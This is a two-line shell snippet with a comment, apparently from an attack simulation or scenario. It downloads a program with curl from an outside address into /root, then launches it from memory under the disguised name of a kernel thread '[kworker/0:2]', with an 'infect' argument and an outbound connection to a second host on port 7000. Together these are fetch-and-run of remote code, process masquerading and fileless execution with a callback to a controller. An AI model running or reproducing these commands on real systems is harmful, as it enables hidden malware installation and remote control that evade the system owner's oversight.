# A script starts a program from memory, under the name of a kernel thread. The program connects out.
curl -s -o /root/program http://203.0.113.10/simulator
/opt/story/memory-only.py /root/program "[kworker/0:2]" infect 203.0.113.20:7000 /root/state 1
